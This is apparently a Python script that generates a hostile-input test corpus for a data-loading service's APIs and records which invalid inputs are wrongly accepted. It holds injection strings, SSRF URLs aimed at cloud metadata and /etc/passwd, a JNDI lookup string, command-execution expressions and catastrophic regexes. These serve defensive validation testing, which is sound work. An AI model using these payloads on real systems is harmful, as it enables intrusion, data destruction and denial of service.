import json
out=[]
def add(name, method, url, **kw):
    d={"name":name,"method":method,"url":url}; d.update(kw); out.append(d)

# --- projects: wrong types, missing/extra, malformed JSON
for i,v in enumerate([123, True, [], {}, 1.5, ["a"], {"x":1}]):
    add(f"project name wrong type {json.dumps(v)}","POST","config:/api/projects",body={"name":v,"description":"d"},field="name")
for v in [None, "", "   ", "\t\n"]:
    add(f"project name blank {json.dumps(v)}","POST","config:/api/projects",body={"name":v},field="name")
add("project missing name","POST","config:/api/projects",body={"description":"d"},field="name")
add("project empty object","POST","config:/api/projects",body={})
add("project extra field","POST","config:/api/projects",body={"name":"x","description":"d","admin":True},field="admin")
add("project extra nested field","POST","config:/api/projects",body={"name":"x","owner":{"role":"ADMIN"}})
add("project description wrong type","POST","config:/api/projects",body={"name":"x","description":{"a":1}},field="description")
for b in [[], "a string", 42, None, True]:
    add(f"project body is {json.dumps(b)}","POST","config:/api/projects",body=b, bodyIsLiteral=True)
for r in ["", "{", "{\"name\":", "{\"name\":\"x\",}", "{'name':'x'}", "{\"name\":NaN}", "{\"name\":\"x\" /* c */}",
          "{\"name\":\"x\"}{\"name\":\"y\"}", "[{\"name\":\"x\"}", "{\"name\":\"\\ud800\"}", "{\"name\":\"\\udfff\\ud800\"}",
          "{\"name\":\"\\uZZZZ\"}", "{\"name\":\"x\",\"name\":\"y\"}", "nul", "\u0000", "{\"name\":\"a\u0001b\"}",
          "{\"name\":1e999999}", "{\"name\":\"x\"", "<?xml version=\"1.0\"?><project/>", "{\"name\":\"\\\"}"]:
    add(f"project raw {r[:40]!r}","POST","config:/api/projects",raw=r)
for ct in ["text/plain","application/xml","application/x-www-form-urlencoded","multipart/form-data; boundary=x","application/octet-stream", "application/json; charset=ebcdic"]:
    add(f"project content type {ct}","POST","config:/api/projects",contentType=ct,raw="{\"name\":\"ct\"}")
add("project name 1 MB","POST","config:/api/projects",gen="project-name-1mb",field="name")
add("project description 1 MB","POST","config:/api/projects",gen="project-description-1mb",field="description")
add("project deep json 10000","POST","config:/api/projects",gen="deep-object-10000")
add("project deep array 10000","POST","config:/api/projects",gen="deep-array-10000")
add("project invalid utf-8 bytes","POST","config:/api/projects",gen="invalid-utf8")
add("project overlong utf-8","POST","config:/api/projects",gen="overlong-utf8")
add("project 100000 extra fields","POST","config:/api/projects",gen="wide-object")
add("project PUT wrong type","PUT","config:/api/projects/{projectId}",body={"name":[1]},field="name")
add("project PUT blank","PUT","config:/api/projects/{projectId}",body={"name":""},field="name")
# path params
for p in ["abc","1.5","-1","0","99999999999999999999","%27%20OR%201=1","1%3BDROP","%00", "NaN", "1e3", "0x10"]:
    add(f"project GET id {p}","GET",f"config:/api/projects/{p}")
for p in ["abc","-5","99999999999999999999","1%20OR%201=1"]:
    add(f"job GET id {p}","GET",f"config:/api/jobs/{p}")
    add(f"job run id {p}","POST",f"config:/api/jobs/{p}/runs",body={})
    add(f"connection GET id {p}","GET",f"config:/api/connections/{p}")
    add(f"loader documents project {p}","GET",f"loader:/api/projects/{p}/documents")
add("job version not a number","GET","config:/api/jobs/{jobId}/versions/abc")
add("job version huge","GET","config:/api/jobs/{jobId}/versions/99999999999")
add("run id injection","GET","config:/api/runs/'%20OR%20'1'='1")
add("run id unknown","GET","config:/api/runs/00000000-0000-0000-0000-000000000000")
add("run cancel unknown","POST","config:/api/runs/not-a-run/cancel",body={})
add("job runs unknown status","GET","config:/api/jobs/{jobId}/runs?status=EXPLODED")
add("job runs bad from","GET","config:/api/jobs/{jobId}/runs?from=yesterday")
add("runs page not number","GET","config:/api/runs?page=abc")
add("runs negative size","GET","config:/api/runs?size=-1")
add("runs huge size","GET","config:/api/runs?size=99999999999")
add("runs unknown trigger","GET","config:/api/runs?trigger=COSMIC_RAY")
add("jobs projectId not a number","GET","config:/api/jobs?projectId=x")
add("loader bad from","GET","loader:/api/projects/{projectId}/documents?from=not-a-date")
add("loader bad to","GET","loader:/api/projects/{projectId}/documents?to=2026-13-45")
add("loader page negative","GET","loader:/api/projects/{projectId}/documents?page=-1")
add("loader size huge","GET","loader:/api/projects/{projectId}/documents?size=1000000")
add("loader size zero","GET","loader:/api/projects/{projectId}/documents?size=0")
add("loader page not number","GET","loader:/api/projects/{projectId}/documents?page=x")
add("loader jobId not number","GET","loader:/api/projects/{projectId}/documents?jobId=x")
add("loader document unknown","GET","loader:/api/projects/{projectId}/documents/nope%3Bnope")
add("loader report unknown run","GET","loader:/api/runs/nope/report.csv")
# auth
for auth in ["none","wrong"]:
    for m,u in [("GET","config:/api/projects"),("POST","config:/api/projects"),("GET","config:/api/jobs"),("POST","config:/api/jobs/{jobId}/runs"),
                ("GET","config:/api/connections"),("GET","config:/api/keys"),("POST","config:/api/admin/encryption/rotate"),
                ("GET","loader:/api/projects/{projectId}/documents"),("DELETE","loader:/api/runs/x/documents"),("GET","config:/api/runs")]:
        add(f"{auth} key {m} {u}",m,u,auth=auth,body={"name":"x"} if m=="POST" else None)
for m,u,b in [("POST","config:/api/projects",{"name":"v"}),("POST","config:/api/jobs",{"name":"v"}),("DELETE","config:/api/jobs/{jobId}",None),
              ("POST","config:/api/jobs/{jobId}/runs",{}),("POST","config:/api/keys",{"name":"k","role":"ADMIN"}),("GET","config:/api/keys",None),
              ("POST","config:/api/connections",{"name":"c"}),("DELETE","config:/api/projects/{projectId}",None),("POST","config:/api/admin/encryption/rotate",{}),
              ("PUT","config:/api/jobs/{jobId}",{"name":"v"}),("DELETE","loader:/api/runs/x/documents",None)]:
    add(f"viewer role {m} {u}",m,u,auth="viewer",body=b)
add("api key header injection","GET","config:/api/projects",auth="injection")
add("api key 1 MB header","GET","config:/api/projects",auth="huge")
add("internal token without service key","POST","config:/internal/connections/{connectionId}/token",auth="none",body={})
add("internal token with admin key","POST","config:/internal/connections/{connectionId}/token",auth="admin",body={})
add("internal job version without service key","GET","config:/internal/jobs/{jobId}/versions/1",auth="none")
add("preview without service key","POST","transformer:/internal/preview",auth="none",body={"job":None,"records":[]})
add("preview wrong service key","POST","transformer:/internal/preview",auth="wrong-service",body={"job":None,"records":[]})
add("preview job missing","POST","transformer:/internal/preview",auth="service",body={"records":[{"Id":"1"}]})
add("preview records wrong type","POST","transformer:/internal/preview",auth="service",body={"job":{},"records":"x"})
add("preview raw malformed","POST","transformer:/internal/preview",auth="service",raw="{\"job\":")
add("preview deep","POST","transformer:/internal/preview",auth="service",gen="deep-object-10000")
add("preview text plain","POST","transformer:/internal/preview",auth="service",contentType="text/plain",raw="hello")
add("oauth callback no state","GET","config:/api/oauth/callback?code=x",auth="none")
add("oauth callback forged state","GET","config:/api/oauth/callback?code=x&state=forged",auth="none")
add("oauth callback injection state","GET","config:/api/oauth/callback?code=%27;DROP&state=%3Cscript%3E",auth="none")
add("method not allowed PATCH project","PATCH","config:/api/projects/{projectId}",body={"name":"x"})
add("unknown path","GET","config:/api/nope")
add("unknown path loader","GET","loader:/api/nope")

# --- keys
for b,f in [({"name":"k","role":"ROOT"},"role"),({"name":"k","role":1},"role"),({"role":"VIEWER"},"name"),({"name":"k"},"role"),
            ({"name":"k","role":"VIEWER","expiresAt":"tomorrow"},"expiresAt"),({"name":"k","role":"VIEWER","expiresAt":"2000-01-01T00:00:00Z"},"expiresAt"),
            ({"name":"k","role":"VIEWER","expiresAt":-1},"expiresAt"),({"name":"k","role":"viewer "},"role"),({"name":["k"],"role":"VIEWER"},"name"),({"name":"k","role":"VIEWER","extra":1},"extra")]:
    add(f"key {json.dumps(b)[:60]}","POST","config:/api/keys",body=b,field=f)

# --- connections
conn={"name":"c","loginUrl":"{simulator}","authFlow":"USERNAME_PASSWORD","consumerKey":"k","consumerSecret":"s","username":"u","password":"p","securityToken":"t"}
for setv,f in [({"authFlow":"TELEPATHY"},"authFlow"),({"authFlow":7},"authFlow"),({"loginUrl":"not a url"},"loginUrl"),({"loginUrl":"ftp://x"},"loginUrl"),
               ({"loginUrl":"http://169.254.169.254/latest/meta-data"},"loginUrl"),({"loginUrl":"http://10.0.0.1"},"loginUrl"),({"loginUrl":"http://[::1]:8080"},"loginUrl"),
               ({"loginUrl":"javascript:alert(1)"},"loginUrl"),({"loginUrl":"file:///etc/passwd"},"loginUrl"),({"loginUrl":"http://user:pw@evil.example"},"loginUrl"),
               ({"name":None},"name"),({"name":""},"name"),({"name":{"a":1}},"name"),({"consumerKey":None},"consumerKey"),({"sandbox":"yes"},"sandbox"),
               ({"usePkce":[]},"usePkce"),({"privateKeyPem":"-----BEGIN PRIVATE KEY-----\ngarbage\n-----END PRIVATE KEY-----","authFlow":"JWT_BEARER"},"privateKeyPem"),
               ({"unknownField":1},"unknownField")]:
    b=dict(conn); b.update(setv)
    add(f"connection {json.dumps(setv)[:60]}","POST","config:/api/connections",body=b,field=f)
add("connection name 1 MB","POST","config:/api/connections",gen="connection-name-1mb",field="name")

# --- jobs: base job with one bad field
def job(name, setv=None, remove=None, field=None, soqlPosition=False, gen=None):
    d={"base":"job"}
    if setv is not None: d["set"]=setv
    if remove: d["remove"]=remove
    if field: d["field"]=field
    if soqlPosition: d["soqlPosition"]=True
    if gen: d["gen"]=gen
    add("job "+name,"POST","config:/api/jobs",**d)
for k,v,f in [("projectId","abc","projectId"),("projectId",-1,"projectId"),("projectId",999999999,"projectId"),("projectId",1.5,"projectId"),
              ("projectId",99999999999999999999999,"projectId"),("connectionId",[],"connectionId"),("connectionId",0,"connectionId"),("connectionId",987654321,"connectionId"),
              ("name",None,"name"),("name","","name"),("name",42,"name"),("dataType","VIDEO","dataType"),("dataType","live_chat","dataType"),("dataType",1,"dataType"),
              ("participantMode","TELEPATHIC","participantMode"),("apiVersion","banana","apiVersion"),("apiVersion","-1.0","apiVersion"),("apiVersion","999999.0","apiVersion"),("apiVersion","62.0/../../x","apiVersion"),
              ("dateField","Nope__c","dateField"),("dateField","Id; DROP TABLE x","dateField"),("dateField",123,"dateField"),("includeDeleted","yes","includeDeleted"),
              ("api","SOAP","api"),("bulkThreshold",-5,"bulkThreshold"),("bulkThreshold","many","bulkThreshold"),("recordLimit",-1,"recordLimit"),("recordLimit",0,"recordLimit"),
              ("recordLimit",99999999999,"recordLimit"),("recordLimit","all","recordLimit"),
              ("lookBack",{"amount":-3,"unit":"HOURS"},"lookBack.amount"),("lookBack",{"amount":1,"unit":"WEEKS"},"lookBack.unit"),("lookBack",{"amount":99999999999,"unit":"DAYS"},"lookBack.amount"),
              ("lookBack","1h","lookBack"),("duplicateMode","MERGE","duplicateMode"),("defaultMapping","x","defaultMapping"),("fieldMappings","x","fieldMappings"),("fieldMappings",[1,2],"fieldMappings"),
              ("redaction","x","redaction"),("filter","x","filter"),("schedule","daily","schedule"),("enabled","maybe","enabled"),("notifications",[],"notifications"),("unexpected",True,"unexpected"),
              ("description",{"x":1},"description")]:
    job(f"{k}={json.dumps(v)[:40]}",{k:v},field=f)
job("missing projectId",remove=["projectId"],field="projectId")
job("missing connectionId",remove=["connectionId"],field="connectionId")
job("missing soql",remove=["soql"],field="soql")
job("missing name",remove=["name"],field="name")
job("name 1 MB",gen="job-name-1mb",field="name")
job("deep json in redaction",gen="job-deep-redaction")
# SOQL injection / malformed
soqls=[("'; DROP TABLE jobs; --",True),("SELECT Id FROM LiveChatTranscript WHERE Id = '' OR Id != null --'",False),
       ("SELECT Id FROM LiveChatTranscript WHERE Name = '\\' OR Id != null",True),("SELECT Id FROM LiveChatTranscript /* comment */ WHERE Id != null",True),
       ("SELECT Id FROM LiveChatTranscript -- comment",True),("SELECT Id, FROM LiveChatTranscript",True),("SELECT FROM LiveChatTranscript",True),
       ("SELECT Id LiveChatTranscript",True),("SELEC Id FROM LiveChatTranscript",True),("SELECT Id FROM",True),("SELECT Id FROM LiveChatTranscript WHERE",True),
       ("SELECT Id FROM LiveChatTranscript WHERE Status = 'open",True),("SELECT Id FROM LiveChatTranscript\nWHERE\n  Status = = 'x'",True),
       ("SELECT Status, COUNT(Id) FROM LiveChatTranscript GROUP BY Status",True),("SELECT LastModifiedDate, COUNT() FROM LiveChatTranscript",True),
       ("SELECT Id FROM LiveChatTranscript; SELECT Id FROM Account",True),("SELECT Id FROM LiveChatTranscript UNION SELECT Id FROM User",True),
       ("DELETE FROM LiveChatTranscript",True),("UPDATE LiveChatTranscript SET Status='x'",True),("",False),("   ",False),
       ("SELECT Id FROM LiveChatTranscript WHERE Id IN (SELECT",True),("SELECT Id FROM LiveChatTranscript WHERE CreatedDate > 2026-13-45T99:99:99Z",True),
       ("SELECT Id FROM LiveChatTranscript WHERE CreatedDate > LAST_N_DAYS:abc",True),("SELECT Id FROM LiveChatTranscript LIMIT -1",True),
       ("SELECT Id FROM LiveChatTranscript OFFSET abc",True),("SELECT Id FROM LiveChatTranscript WHERE Name LIKE '%\u0000%'",True),
       ("SELECT LastModifiedDate, (SELECT (SELECT Id FROM a) FROM b) FROM LiveChatTranscript",True),("SELECT Id FROM LiveChatTranscript WHERE (((((((((((Id = '1'",True),
       ("SELECT Id FROM LiveChatTranscript WHERE Id = '\ud83d'",False),("SELECT Id FROM LiveChatTranscript ORDER BY",True),("SELECT Id FROM LiveChatTranscript FOR UPDATE",True),
       ("SELECT Id FROM LiveChatTranscript WHERE Id = :bind",True),("SELECT Id FROM LiveChatTranscript WHERE Id = {!Id}",True),
       ("SELECT Id FROM Account",False),("SELECT Id, Body FROM LiveChatTranscript WHERE Status = 'x' GROUP BY ROLLUP(Status)",True)]
for s,pos in soqls:
    if s.startswith("SELECT Id"): s="SELECT Id, LastModifiedDate"+s[len("SELECT Id"):]
    job(f"soql {len(out)} {s[:50]!r}",{"soql":s},field="soql",soqlPosition=pos)
job("soql wrong type number",{"soql":12345},field="soql")
job("soql wrong type object",{"soql":{"select":"Id"}},field="soql")
job("soql 100001 chars",gen="job-soql-100001",field="soql")
job("soql 10000 nested parens",gen="job-soql-nested",field="soql")
# regexes / expressions
cat=["(a+)+$","(a|aa)+$","(.*a){20}","([a-zA-Z]+)*$","(x+x+)+y","^(\\w+\\s?)*$"]
for r in cat:
    job(f"redaction catastrophic regex {r}",{"redaction":{"redactionRules":r}},field="redaction.redactionRules")
for r in ["(","[a-","*abc","(?<name","\\","a{99999999999}","(?i","[[:alpha:]"]:
    job(f"redaction invalid regex {r}",{"redaction":{"redactionRules":r}},field="redaction.redactionRules")
for r in ["(a+)+$","(","[z-a]"]:
    job(f"substitution bad rule {r}",{"redaction":{"substitutionRules":r+" => x"}},field="redaction.substitutionRules")
job("redaction unknown detector",{"redaction":{"detectors":["DNA"]}},field="redaction.detectors")
job("redaction detectors wrong type",{"redaction":{"detectors":"EMAIL"}},field="redaction.detectors")
job("redaction mask 1 MB",gen="job-mask-1mb",field="redaction.mask")
for r in cat+["(","[a-","a{2,1}"]:
    job(f"transformation regex {r}",{"fieldMappings":[{"sourceField":"Status","targetAttribute":"status","dataType":"TEXT","transformation":{"type":"REGEX","regex":r,"replacement":"x"}}]},field="fieldMappings[0].transformation.regex")
for e in ["1 +","'; DROP TABLE x; --","java.lang.Runtime.getRuntime().exec('id')","${jndi:ldap://evil/x}","#{7*7}","__import__('os').system('id')",
          "((((((((((((((((((((((((((((((((((((((((((((((((((1","Status ==","unknownFn(Status)","Status.matches('(a+)+$')", "\u0000", "\ud800"]:
    job(f"transformation expression {e[:40]!r}",{"fieldMappings":[{"sourceField":"Status","targetAttribute":"status","dataType":"TEXT","transformation":{"type":"EXPRESSION","expression":e}}]},field="fieldMappings[0].transformation.expression")
job("transformation unknown type",{"fieldMappings":[{"sourceField":"Status","targetAttribute":"status","dataType":"TEXT","transformation":{"type":"MAGIC"}}]},field="fieldMappings[0].transformation.type")
job("mapping unknown data type",{"fieldMappings":[{"sourceField":"Status","targetAttribute":"status","dataType":"BLOB"}]},field="fieldMappings[0].dataType")
job("mapping missing target",{"fieldMappings":[{"sourceField":"Status","dataType":"TEXT"}]},field="fieldMappings[0].targetAttribute")
job("mapping target injection",{"fieldMappings":[{"sourceField":"Status","targetAttribute":"x'; DROP TABLE documents; --","dataType":"TEXT"}]},field="fieldMappings[0].targetAttribute")
job("mapping source not in soql",{"fieldMappings":[{"sourceField":"Nope__c","targetAttribute":"nope","dataType":"TEXT"}]},field="fieldMappings[0].sourceField")
job("mapping null element",{"fieldMappings":[None]},field="fieldMappings[0]")
for e in ["Status ==","'; DROP TABLE x","(a+)+$ ~~ Status","${jndi:ldap://x}",""]:
    job(f"filter expression {e!r}",{"filter":{"expression":e,"mode":"INCLUDE"}},field="filter.expression")
job("filter unknown mode",{"filter":{"expression":"Status = 'x'","mode":"MAYBE"}},field="filter.mode")
# schedules
for s,f in [({"type":"DAILY","startTime":"08:30","timezone":"Mars/Olympus"},"schedule.timezone"),({"type":"DAILY","startTime":"08:30","timezone":"GMT+99"},"schedule.timezone"),
            ({"type":"DAILY","startTime":"08:30","timezone":"../../etc/passwd"},"schedule.timezone"),({"type":"DAILY","startTime":"08:30","timezone":""},"schedule.timezone"),
            ({"type":"DAILY","startTime":"25:61","timezone":"UTC"},"schedule.startTime"),({"type":"DAILY","startTime":"8.30","timezone":"UTC"},"schedule.startTime"),
            ({"type":"DAILY","startTime":830,"timezone":"UTC"},"schedule.startTime"),({"type":"ONE_TIME","startDate":"2026-02-30","startTime":"08:00","timezone":"UTC"},"schedule.startDate"),
            ({"type":"ONE_TIME","startDate":"2026-13-01","startTime":"08:00","timezone":"UTC"},"schedule.startDate"),({"type":"ONE_TIME","startDate":"+999999999-12-31","startTime":"08:00","timezone":"UTC"},"schedule.startDate"),
            ({"type":"ONE_TIME","startDate":"yesterday","startTime":"08:00","timezone":"UTC"},"schedule.startDate"),({"type":"HOURLY","everyHours":0,"timezone":"UTC"},"schedule.everyHours"),
            ({"type":"HOURLY","everyHours":-4,"timezone":"UTC"},"schedule.everyHours"),({"type":"HOURLY","everyHours":2147483648,"timezone":"UTC"},"schedule.everyHours"),
            ({"type":"HOURLY","everyHours":1000,"timezone":"UTC"},"schedule.everyHours"),({"type":"WEEKLY","startTime":"08:00","timezone":"UTC","daysOfWeek":["FUNDAY"]},"schedule.daysOfWeek"),
            ({"type":"WEEKLY","startTime":"08:00","timezone":"UTC","daysOfWeek":[]},"schedule.daysOfWeek"),({"type":"MONTHLY","startTime":"08:00","timezone":"UTC","dayOfMonth":0},"schedule.dayOfMonth"),
            ({"type":"MONTHLY","startTime":"08:00","timezone":"UTC","dayOfMonth":32},"schedule.dayOfMonth"),({"type":"MONTHLY","startTime":"08:00","timezone":"UTC","dayOfMonth":-1},"schedule.dayOfMonth"),
            ({"type":"FORTNIGHTLY"},"schedule.type"),({"type":None,"timezone":"UTC"},"schedule.type"),({"type":"DAILY","timezone":"UTC"},"schedule.startTime"),
            ({"type":"DAILY","startTime":"08:30","timezone":"Europe/Berlin\u0000"},"schedule.timezone"),({"type":"MANUAL","createWithoutPulling":"no"},"schedule.createWithoutPulling")]:
    job(f"schedule {json.dumps(s)[:70]}",{"schedule":s},field=f)
job("notifications bad email",{"notifications":{"emails":["not-an-email"]}},field="notifications")
job("PUT wrong type",{"name":[]},field="name")
out[-1]["method"]="PUT"; out[-1]["url"]="config:/api/jobs/{jobId}"
job("PUT unknown dataType",{"dataType":"X"},field="dataType")
out[-1]["method"]="PUT"; out[-1]["url"]="config:/api/jobs/{jobId}"
add("job copy name wrong type","POST","config:/api/jobs/{jobId}/copy",body={"name":{}},field="name")
add("job copy name 1 MB","POST","config:/api/jobs/{jobId}/copy",gen="project-name-1mb",field="name")
add("job raw malformed","POST","config:/api/jobs",raw="{\"projectId\":1,\"soql\":\"SELECT")
add("job text/plain","POST","config:/api/jobs",contentType="text/plain",raw="SELECT Id FROM LiveChatTranscript")
add("job deep array 10000","POST","config:/api/jobs",gen="deep-array-10000")
add("job invalid utf-8","POST","config:/api/jobs",gen="invalid-utf8-job")
import re
known=[(r"catastrophic regex|transformation regex \^","catastrophic regex accepted at save (201), no ReDoS check"),
 (r"Europe/Berlin","time zone with NUL accepted (201)"),(r"^project name wrong type (123|true|1\.5)$","scalar coerced to string: wrong JSON type accepted (201)"),
 (r"^job name=42$","scalar coerced to string: wrong JSON type accepted (201)"),
 (r"^job projectId=1\.5$","float truncated to integer id: wrong JSON type accepted (201)"),
 (r"^key .*\"role\": 1\}","enum accepted by ordinal: role 1 became JOB_MANAGER (201)"),
 (r"^job dataType=1$","enum accepted by ordinal: dataType 1 became LIVE_CHAT (201)"),
 (r"^project raw '\{\"name\":\"x\"\}\{","trailing content after the JSON document accepted (201)"),
 (r"^project raw '\{\"name\":\"x\",\"name\"","duplicate JSON keys accepted, last wins (201)"),
 (r"^project raw .*\\\\ud","lone surrogate accepted and stored (201)"),
 (r"^project raw .*1e999999","number literal coerced to string (201)"),
 (r"^project content type application/json; charset=ebcdic$","unsupported charset accepted (201)"),
 (r"^project overlong utf-8$","overlong UTF-8 accepted and decoded (201, stored as '//')"),
 (r"^loader documents project -5$","negative project id gives 200 empty page"),
 (r"^api key 1 MB header$","1 MB header: connection dropped, no problem response"),
 (r"^preview records wrong type$","transformer 400 without a body or application/problem+json"),
 (r"^job (projectId=99999999999999999999999|recordLimit=99999999999|lookBack=\{\"amount\": 99999999999.*)$","numeric overflow: 400 'HTTP 400 Bad Request' without errors[].field"),
 (r"^job schedule .*2147483648","numeric overflow: 400 'HTTP 400 Bad Request' without errors[].field"),
 (r"^job (redaction|transformation regex) .*(\(a\+\)\+\$|\(a\|aa\)\+\$|\(\.\*a\)\{20\}|\(\[a-zA-Z\]\+\)\*\$|\(x\+x\+\)\+y|\^\(\\\\w\+\\\\s\?\)\*\$)$","catastrophic regex accepted at save (201), no ReDoS check"),
 (r"^job redaction mask 1 MB$","1 MB mask accepted (201), no size limit"),
 (r"^job transformation expression ","transformation expression not validated at save (201)"),
 (r"^job mapping target injection$","target attribute with quotes/semicolons accepted (201)"),
 (r"^job mapping source not in soql$","mapping source field not in the SOQL select list accepted (201)"),
 (r"^job filter expression '(Status ==|\(a\+\)\+\$ ~~ Status|\$\{jndi:ldap://x\}|)'$","filter expression not validated at save (201)"),
 (r"^job filter expression \"'; DROP TABLE x\"$","filter expression not validated at save (201)"),
 (r"^job schedule .*\"timezone\": \"\"\}$","empty time zone accepted (201)"),
 (r"^job schedule .*\+999999999-12-31","start date in year 999999999 accepted (201)"),
 (r"^job schedule \{\"type\": null","schedule without type accepted (201)"),
 (r"^job schedule \{\"type\": \"DAILY\", \"timezone\": \"UTC\"\}$","DAILY schedule without startTime accepted (201)"),
 (r"^job schedule .*Europe/Berlin\\u0000","time zone with NUL accepted (201)"),
]
failed=set()
for line in open("/tmp/hostile-run1.log", encoding="utf-8"):
    if line.startswith("HOSTILE FAILURE "):
        rest=line[len("HOSTILE FAILURE "):]
        failed.add(rest[:rest.index(": POST ") if ": POST " in rest else rest.index(": GET ")])
for d in out:
    if d["name"] not in failed or d["name"].startswith("job soql"): continue
    d["knownBug"]="accepted (201) though invalid"
    for pat,why in known:
        if re.search(pat,d["name"]): d["knownBug"]=why; break
names=set()
for d in out:
    if d["name"] in names: d["name"]+=f" #{len(names)}"
    assert d["name"] not in names, d["name"]; names.add(d["name"])
    if d.get("body") is None and "body" in d and not d.get("bodyIsLiteral"): del d["body"]
with open("/work/main/e2e-tests/src/test/resources/hostile/corpus.jsonl","w") as f:
    for d in out: f.write(json.dumps(d, ensure_ascii=True)+"\n")
print(len(out), sum(1 for d in out if "knownBug" in d))
